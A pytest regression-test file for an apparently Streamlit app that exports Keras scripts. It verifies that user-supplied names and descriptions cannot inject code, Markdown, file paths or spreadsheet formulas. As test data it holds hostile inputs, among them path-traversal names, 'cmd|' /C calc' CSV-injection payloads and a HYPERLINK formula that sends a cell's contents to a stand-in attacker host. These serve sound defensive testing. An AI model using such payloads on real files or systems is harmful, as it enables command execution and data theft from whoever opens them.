"""User text is data: a spec's name and description never become code, markup or a path.

Each issue-8 finding has a regression test at the level a user meets it:
1. an encoding cookie in the name turned the description into code in the exported script
   (library: the file's bytes, their AST, and the script run in a fresh Python);
6. a lone surrogate broke Home, Build and Train and made the CLI fail after training (spec
   boundary, link, paste, CLI);
7. a name or description from a link was rendered as Markdown (AppTest: what the page sends; what
   Chromium shows is tests/browser/test_user_text.py).
Download file names made from the name are checked too.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
import re
import subprocess
import sys
import time
import tokenize
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

import sharecore
from sharecore.core.config import TrainConfig
from sharecore.core.spec import ModelSpec
from sharecore.core.text import MAX_FILE_STEM, csv_text, safe_file_name
from sharecore.share import urlstate
from sharecore.share.codegen import keras_code
from tests.support.hostile import HOSTILE, MD_DESCRIPTION, MD_NAME, hostile_codegen_cases

ROOT = Path(__file__).resolve().parents[2]
APP = str(ROOT / "streamlit_app.py")
BASE = sharecore.preset("seed-dense")
# Python's own PEP 263 pattern (tokenize.cookie_re), and vim's modeline start.
COOKIE = re.compile(r"^[ \t\f]*#.*?coding[:=][ \t]*[-\w.]+", re.ASCII)
MODELINE = re.compile(r"(?:^|\s)(?:vi|vim|Vim|ex)(?:[<=>]?\d+)?:")
FIXED_FIRST_LINES = {
    True: ["# Weight sharing in Keras 3: the tied model of a spec, as a standalone script.", "#"],
    False: ["# Weight sharing in Keras 3: the untied model of a spec, as a standalone script.", "#"],
}


def link_param(data: dict) -> str:
    """A `spec=` link value for any JSON data, as `urlstate.encode_spec` writes a valid one."""
    raw = json.dumps(data, separators=(",", ":")).encode("utf-8")
    return base64.urlsafe_b64encode(zlib.compress(raw, 9)).decode("ascii").rstrip("=")


def shown(markdown_body: str) -> str:
    """What a reader sees of an escaped Markdown body: each backslash escape is its character,
    a word joiner (U+2060) is invisible."""
    return re.sub(r"\\(.)", r"\1", markdown_body).replace("  \n", "\n").replace("\u2060", "")


# ----------------------------------------------------------------------------- 1. the exported script
# The cases are tests/support/hostile.py's `hostile_codegen_cases`.
CODEGEN_CASES = sorted(hostile_codegen_cases(Path("marker")))


@pytest.mark.parametrize("tied", [True, False], ids=["tied", "untied"])
@pytest.mark.parametrize("case", CODEGEN_CASES)
def test_exported_script_bytes_are_utf8_and_parse_to_the_code_shown(case: str, tied: bool, tmp_path: Path) -> None:
    spec = hostile_codegen_cases(tmp_path / "marker")[case]

    text = keras_code(spec, tied)
    data = text.encode("utf-8")  # what the download button sends

    assert tokenize.detect_encoding(io.BytesIO(data).readline)[0] == "utf-8"
    assert ast_dump(data) == ast_dump(text)
    lines = text.split("\n")
    assert lines[:2] == FIXED_FIRST_LINES[tied]
    assert not [line for line in lines if COOKIE.match(line) or MODELINE.search(line)]
    # Every reader sees the same lines: Python's tokenizer (\n), str.splitlines and editors.
    assert text.splitlines() == lines[:-1]


def ast_dump(source: str | bytes) -> str:
    import ast

    return ast.dump(ast.parse(source))


def test_a_name_with_an_encoding_cookie_is_shown_in_the_header_defused_from_line_3_on() -> None:
    spec = ModelSpec.from_dict(BASE.to_dict() | {"name": "x coding: unicode_escape", "description": "d vim: x"})

    header = keras_code(spec).split("\n")

    assert header[2] == "# Spec 'x coding : unicode_escape'."
    assert header[3] == "# d vim : x"


@pytest.mark.slow
def test_exported_scripts_with_hostile_text_run_and_injected_code_never_does(tmp_path: Path) -> None:
    """The issue's attack end to end: download the script, run it with `python file.py` and `-m`."""
    marker = tmp_path / "marker"
    specs = hostile_codegen_cases(marker)
    expected = []
    for i, case in enumerate(CODEGEN_CASES):
        (tmp_path / f"script_{i}.py").write_bytes(keras_code(specs[case], tied=i % 2 == 0).encode("utf-8"))
        report = sharecore.param_report(specs[case])
        expected.append(report.tied_total if i % 2 == 0 else report.untied_total)
    env = {"TF_CPP_MIN_LOG_LEVEL": "2", "CUDA_VISIBLE_DEVICES": "", "PYTHONPATH": ""}
    # The original attack exactly as reported: `python file.py`.
    direct = subprocess.run(
        [sys.executable, "-I", "script_0.py"], cwd=tmp_path, capture_output=True, text=True, timeout=300, env=env
    )
    # The rest in one interpreter (importing TensorFlow costs seconds): `python -m` for odd ones.
    runner = (
        "import runpy, sys\n"
        "sys.path.insert(0, '.')\n"
        "for i in range(1, int(sys.argv[1])):\n"
        "    if i % 2:\n"
        "        runpy.run_module(f'script_{i}', run_name='__main__')\n"
        "    else:\n"
        "        runpy.run_path(f'script_{i}.py', run_name='__main__')\n"
    )
    rest = subprocess.run(
        [sys.executable, "-I", "-c", runner, str(len(CODEGEN_CASES))],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )

    assert direct.returncode == 0, direct.stderr[-3000:]
    assert rest.returncode == 0, rest.stderr[-3000:]
    counts = [int(c) for c in re.findall(r"^count_params: (\d+)$", direct.stdout + rest.stdout, re.MULTILINE)]
    assert counts == expected
    assert not marker.exists()


# ----------------------------------------------------------------------------- 6. the spec boundary
SURROGATE = "\ud800"


@pytest.mark.parametrize("field", ["name", "description"])
def test_a_lone_surrogate_in_the_name_or_description_is_a_clear_value_error(field: str) -> None:
    data = BASE.to_dict() | {field: f"ab{SURROGATE}"}

    with pytest.raises(ValueError) as err:
        ModelSpec.from_dict(data)

    message = str(err.value)
    assert message.startswith(f"spec.{field}: must be text without lone surrogates (U+D800..U+DFFF)")
    assert "found the lone surrogate U+D800 at position 2" in message
    assert message.endswith("Received: 'ab\\ud800'")
    message.encode("utf-8")  # the message itself can be shown and logged


def test_a_json_surrogate_escape_is_refused_by_from_json() -> None:
    text = BASE.to_json().replace('"seed-dense"', '"x\\udfff"', 1)
    assert "\\udfff" in text  # the JSON file is plain ASCII; json.loads makes the surrogate

    with pytest.raises(ValueError, match=r"^spec\.name: must be text without lone surrogates.*U\+DFFF at position 1"):
        ModelSpec.from_json(text)


@pytest.mark.parametrize("where", ["tensors", "uses"])
def test_a_lone_surrogate_in_a_tensor_or_use_name_is_a_value_error(where: str) -> None:
    data = BASE.to_dict()
    data[where][0]["name"] = f"W{SURROGATE}"

    with pytest.raises(ValueError, match=rf"spec\.{where}\[0\]\.name: names must start with a letter") as err:
        ModelSpec.from_dict(data)
    str(err.value).encode("utf-8")


def test_a_spec_made_in_python_or_by_replace_refuses_surrogates_too() -> None:
    with pytest.raises(ValueError, match=r"^spec\.name: must be text without lone surrogates"):
        dataclasses.replace(BASE, name=SURROGATE)
    with pytest.raises(ValueError, match=r"^spec\.description: must be text without lone surrogates"):
        ModelSpec(input_shape=(4,), tensors=(), uses=BASE.uses, description=SURROGATE)


@pytest.mark.parametrize(
    "name",
    [
        "line\nbreak",
        "carriage\rreturn",
        "tab\there",
        "nul\x00",
        "escape \x1b[31mred",
        "nel\x85",
        "sep\u2028",
        "del\x7f",
    ],
)
def test_a_name_is_one_line_of_printable_text(name: str) -> None:
    with pytest.raises(
        ValueError,
        match=r"^spec\.name: must be one line of printable text.*found the (control character|separator) U\+",
    ):
        ModelSpec.from_dict(BASE.to_dict() | {"name": name})


def test_a_description_may_break_lines_with_newlines_and_hold_tabs_but_no_other_controls() -> None:
    ok = ModelSpec.from_dict(BASE.to_dict() | {"description": "First.\n\tSecond, with émoji 👩‍💻 and \u202e."})
    assert ok.description == "First.\n\tSecond, with émoji 👩‍💻 and \u202e."
    for bad, code in (("a\r\nb", "000D"), ("\x0cpage", "000C"), ("a\u2029b", "2029"), ("\x00", "0000")):
        with pytest.raises(ValueError, match=rf"^spec\.description: may break lines with \\n .*U\+{code} at"):
            ModelSpec.from_dict(BASE.to_dict() | {"description": bad})


def test_a_link_with_a_surrogate_in_the_name_warns_and_opens_the_preset() -> None:
    params = {"preset": "seed-conv", "spec": link_param(BASE.to_dict() | {"name": SURROGATE})}

    state = urlstate.read_state(params)

    assert state.spec == sharecore.preset("seed-conv")
    assert len(state.warnings) == 1
    assert "spec.name: must be text without lone surrogates" in state.warnings[0]
    state.warnings[0].encode("utf-8")


def test_cli_train_refuses_a_surrogate_name_before_training_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "spec.json"
    path.write_text(BASE.to_json().replace('"seed-dense"', '"\\ud800"', 1), encoding="ascii")
    out = tmp_path / "out"

    result = subprocess.run(
        [sys.executable, "-m", "sharecore", "train", str(path), "--steps", "2", "--out", str(out)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "TF_CPP_MIN_LOG_LEVEL": "2"},
        timeout=300,
    )

    assert result.returncode == 2
    assert result.stdout == ""  # nothing announced, nothing trained
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("sharecore: error: spec.name: must be text without lone surrogates (U+D800..U+DFFF)")
    assert not out.exists()


# ----------------------------------------------------------------------------- file names
@pytest.mark.parametrize(
    ("stem", "suffix", "expected"),
    [
        ("seed-dense", ".json", "seed-dense.json"),
        ("../../etc/passwd", ".json", "etc_passwd.json"),
        ("C:\\Windows\\x", "_tied.py", "C_Windows_x_tied.py"),
        ("My spec: v2 (final)", "_history.csv", "My_spec_v2_final_history.csv"),
        ("Ünïcödé", ".json", "Unicode.json"),
        ("...", ".json", "spec.json"),
        ("", ".json", "spec.json"),
        ("中文", ".json", "spec.json"),
        (".hidden", ".json", "hidden.json"),
        ("-rf", ".json", "rf.json"),
        ("a..b", ".json", "a.b.json"),
        ("CON", ".json", "spec_CON.json"),
        ("nul.tar", ".gz", "spec_nul.tar.gz"),
        ("x" * 200, ".json", "x" * MAX_FILE_STEM + ".json"),
    ],
)
def test_safe_file_name_keeps_only_a_plain_name(stem: str, suffix: str, expected: str) -> None:
    assert safe_file_name(stem, suffix) == expected


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=200))
def test_safe_file_name_of_any_text_is_never_empty_hidden_or_a_path(stem: str) -> None:
    name = safe_file_name(stem, ".json")

    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*\.json", name)
    assert ".." not in name and len(name) <= MAX_FILE_STEM + len(".json")
    assert Path(name).name == name and not Path(name).is_absolute()


def test_safe_file_name_refuses_a_suffix_with_a_path() -> None:
    with pytest.raises(ValueError, match=r"suffix: must use only letters, digits"):
        safe_file_name("x", "/../.json")


# ----------------------------------------------------------------------------- 7. pages show text, not markup
# The hostile name and description (MD_NAME, MD_DESCRIPTION, HOSTILE) are tests/support/hostile.py's.
def rendered_html(markdown_body: str) -> str:
    """An independent CommonMark renderer (with GFM tables and strikethrough) as the oracle."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_body)


def assert_plain(markdown_body: str, text: str) -> None:
    """`markdown_body` shows `text` exactly and makes no markup of it."""
    assert shown(markdown_body) == text
    html = rendered_html(markdown_body)
    assert not re.search(r"<(?!/?p>|br />)", html), html  # only paragraphs and line breaks
    # Streamlit's own syntax, which CommonMark lacks (directives, icons, emoji, math, GFM
    # autolinks): every character that could start it arrives escaped.
    unescaped = re.sub(r"\\.", "", markdown_body, flags=re.DOTALL)
    assert not set(unescaped) & set("\\`*_{}[]()#+-.!|~<>$:&@="), markdown_body


@pytest.fixture
def downloads(monkeypatch) -> list[str]:
    """The file names of every download button the app offers (as the browser would get them)."""
    names: list[str] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        if filename is not None:
            names.append(filename)
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return names


@pytest.fixture
def downloaded(monkeypatch) -> dict[str, bytes]:
    """File name -> the bytes of every download button the app offers."""
    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        if filename is not None:
            files[filename] = path_or_data.encode() if isinstance(path_or_data, str) else bytes(path_or_data)
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return files


def open_link(page: str, spec_param: str, **query: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update({"preset": "seed-dense", "spec": spec_param, **query})
    at.run()
    if page != "home":
        at.switch_page(f"pages/{page}.py").run()
    return at


def test_a_link_with_markdown_in_the_name_and_description_shows_them_as_text_on_home() -> None:
    at = open_link("home", urlstate.encode_spec(HOSTILE))

    assert not at.exception and not at.warning
    heading = next(h.value for h in at.subheader if h.value.startswith("Current model: "))
    assert_plain(heading.removeprefix("Current model: "), MD_NAME)
    assert "\\!\\[\\]\\(http" in heading  # the image syntax arrives escaped
    caption = next(c.value for c in at.caption if "Heading" in c.value)
    assert_plain(caption, "\n".join(line.strip() for line in MD_DESCRIPTION.split("\n")))


def test_a_link_with_markdown_in_the_name_shows_it_as_text_on_build_and_train(downloads) -> None:
    build = open_link("build", urlstate.encode_spec(HOSTILE))
    train = open_link("train", urlstate.encode_spec(HOSTILE))

    assert not build.exception and not build.error
    assert not train.exception and not train.error
    caption = next(c.value for c in train.caption if c.value.startswith("Model '"))
    assert_plain(caption.removeprefix("Model '").split("': the tied")[0], MD_NAME)
    assert not train.button(key="train.start").disabled
    # Build's downloads: the script and the spec JSON, named after the spec but only a name.
    assert set(downloads) == {safe_file_name(MD_NAME, "_tied.py"), safe_file_name(MD_NAME, ".json")}
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", name) for name in downloads)


def test_a_link_with_a_surrogate_shows_a_warning_and_the_train_button_on_every_page() -> None:
    spec_param = link_param(BASE.to_dict() | {"name": f"x{SURROGATE}", "description": f"d{SURROGATE}"})

    for page in ("home", "build", "train"):
        at = open_link(page, spec_param)

        assert not at.exception, page
        assert len(at.warning) == 1
        assert "must be text without lone surrogates" in shown(at.warning[0].value)
    assert at.button(key="train.start") is not None and not at.button(key="train.start").disabled


def test_errors_quoting_pasted_markdown_are_shown_as_text_on_build() -> None:
    at = open_link("build", urlstate.encode_spec(BASE))
    long_name = MD_NAME + " " + "x" * 20  # over 80 characters: the error quotes it
    at.text_area(key="build.paste").set_value(json.dumps(BASE.to_dict() | {"name": long_name}))
    at.button(key="build.load_paste").click().run()

    assert not at.exception
    assert len(at.error) == 1
    message = at.error[0].value
    assert "Received: " in shown(message) and "![](http" in shown(message)
    assert "![" not in message and "](http" not in message


def test_a_pasted_json_surrogate_escape_is_an_error_not_an_exception() -> None:
    at = open_link("build", urlstate.encode_spec(BASE))
    at.text_area(key="build.paste").set_value(BASE.to_json().replace('"seed-dense"', '"\\ud800"', 1))
    at.button(key="build.load_paste").click().run()

    assert not at.exception
    assert "spec.name: must be text without lone surrogates" in shown(at.error[0].value)


# ----------------------------------------------------------------------------- downloads and results
@pytest.mark.slow
def test_a_tiny_run_of_a_hostile_spec_trains_and_offers_safe_downloads(downloads, downloaded) -> None:
    at = open_link("train", urlstate.encode_spec(HOSTILE), steps="2", batch="4")
    at.button(key="train.start").click().run()
    deadline = time.monotonic() + 120
    while at.session_state["run"] is not None:  # reruns as the live panel's polling does
        assert time.monotonic() < deadline, "training did not finish in time"
        time.sleep(0.5)
        at.run()

    assert not at.exception and not at.error
    assert at.session_state["result"].steps_done == 2
    suffixes = [".json", "_history.csv", "_gradients.csv", "_divergence.csv", "_summary.json"]
    assert set(downloads) == {safe_file_name(MD_NAME, suffix) for suffix in suffixes}
    result = at.session_state["result"]
    for frame in ("history", "gradients", "divergence"):  # the run's own numbers, and no cell a live formula
        csv_file = downloaded[safe_file_name(MD_NAME, f"_{frame}.csv")].decode()
        assert_no_live_formula(csv_file)
        assert csv_file == csv_text(getattr(result, frame)), frame
        back = pd.read_csv(io.StringIO(csv_file))
        pd.testing.assert_frame_equal(back, getattr(result, frame), check_dtype=False, obj=frame)


def test_summary_json_and_csvs_keep_the_name_as_escaped_data() -> None:
    name = '=HYPERLINK("http://x.example","a") +cmd|\' /C calc\'!A0 -1 @SUM(1)'
    spec = ModelSpec.from_dict(BASE.to_dict() | {"name": name, "description": 'line\n"quoted"\t\\'})

    result = sharecore.train(spec, TrainConfig(steps=2, batch_size=4))
    summary = json.dumps(result.summary(), indent=2)

    assert json.loads(summary)["spec"] == spec.to_dict()  # json.dumps escapes; the text round-trips
    assert "\n" not in json.dumps(spec.name) and summary.isascii()
    for frame in (result.history, result.gradients, result.divergence):
        text_cells = [v for col in frame.select_dtypes(exclude="number") for v in frame[col].astype(str)]
        # No cell a spreadsheet would run as a formula: only the app's labels and validated names.
        assert not [v for v in text_cells if v[:1] in "=+-@\t\r"], frame.columns
        assert name not in frame.to_csv(index=False)
        pd.testing.assert_frame_equal(pd.read_csv(io.StringIO(frame.to_csv(index=False))), frame, check_dtype=False)


# ----------------------------------------------------------------------------- spreadsheet formulas in CSVs
# Cells that Excel, LibreOffice and Google Sheets would run as formulas (OWASP, "CSV Injection").
FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_cells(text: str) -> list[list[str]]:
    """The cells of a CSV as Python's csv module reads it (an oracle independent of pandas)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_live_formula(text: str) -> None:
    """No cell starts with a formula character unless it is a number (a spreadsheet reads -0.5 as -0.5)."""
    for row in csv_cells(text):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # ValueError: a live formula


def test_csv_text_quotes_formula_text_as_text_and_keeps_negative_numbers_numbers() -> None:
    frame = pd.DataFrame(
        {
            # Text, even text that reads as a number; a carriage return mid-cell would start a row of its own.
            "label": [*FORMULAS, "lr 0.1 (was 0.01)", "-0.5", "ok\r=1+1"],
            "value": [-0.5, -1e-300, -3.0, 0.0, float("-inf"), 2.5, float("nan"), -7.25, 1.0],
            "step": np.array([-1, 0, 1, 2, 3, 4, 5, 6, 7], dtype=np.int64),
            "tied": [True, False, True] * 3,
        }
    )
    text = csv_text(frame)

    assert_no_live_formula(text)
    header, *rows = csv_cells(text)
    assert header == ["label", "value", "step", "tied"]
    assert [row[0] for row in rows] == [f"'{label}" for label in FORMULAS] + ["lr 0.1 (was 0.01)", "'-0.5", "ok\r=1+1"]
    back = pd.read_csv(io.StringIO(text))
    assert back["value"].dtype == np.float64 and back["step"].dtype == np.int64 and back["tied"].dtype == bool
    # The same float64 values written and read back (repr round-trips): exact.
    np.testing.assert_array_equal(back["value"].to_numpy(), frame["value"].to_numpy())
    np.testing.assert_array_equal(back["step"].to_numpy(), frame["step"].to_numpy())
    assert [row[1] for row in rows][:3] == ["-0.5", "-1e-300", "-3.0"], "a negative number is written as a number"
    pd.testing.assert_frame_equal(frame, frame.copy(), obj="csv_text leaves its frame as it was")
    assert csv_text(pd.DataFrame({"=cmd": ["x"]})).splitlines()[0] == "'=cmd", "a column name is a cell too"


def test_the_comparison_csv_writes_a_hostile_run_label_as_text_and_every_number_as_a_number() -> None:
    from sharecore.runs import compare

    result = sharecore.train(BASE, TrainConfig(steps=4, batch_size=4, record_every=1))
    runs = [compare.LabelledRun(label, result, "") for label in (*FORMULAS, "plain")]

    text = compare.comparison_csv(runs)

    assert_no_live_formula(text)
    header, *rows = csv_cells(text)
    assert header == ["run", "series", "step", "variant", "value"]
    assert {row[0] for row in rows} == {f"'{label}" for label in FORMULAS} | {"plain"}
    curves = compare.curves(runs)
    assert len(rows) == len(curves)
    np.testing.assert_allclose([float(row[4]) for row in rows], curves["value"], rtol=0, atol=0, equal_nan=True)
    assert (curves["value"] < 0).any() == any(row[4].startswith("-") for row in rows)


def test_the_cli_writes_its_csvs_through_csv_text(tmp_path: Path) -> None:
    from sharecore import cli

    result = sharecore.train(BASE, TrainConfig(steps=2, batch_size=4))
    # Text a spec's validated names cannot hold, put into every frame: the files must still hold no formula.
    hostile = dataclasses.replace(
        result, **{name: getattr(result, name).assign(variant=FORMULAS[0]) for name in ("history", "gradients")}
    )

    assert cli._write_results(hostile, hostile.summary(), tmp_path) == {}

    for name in ("history", "gradients", "divergence", "heldout"):
        written = (tmp_path / f"{name}.csv").read_text()
        assert written == csv_text(getattr(hostile, name)), name
        assert_no_live_formula(written)
    assert csv_cells((tmp_path / "history.csv").read_text())[1][1] == f"'{FORMULAS[0]}"
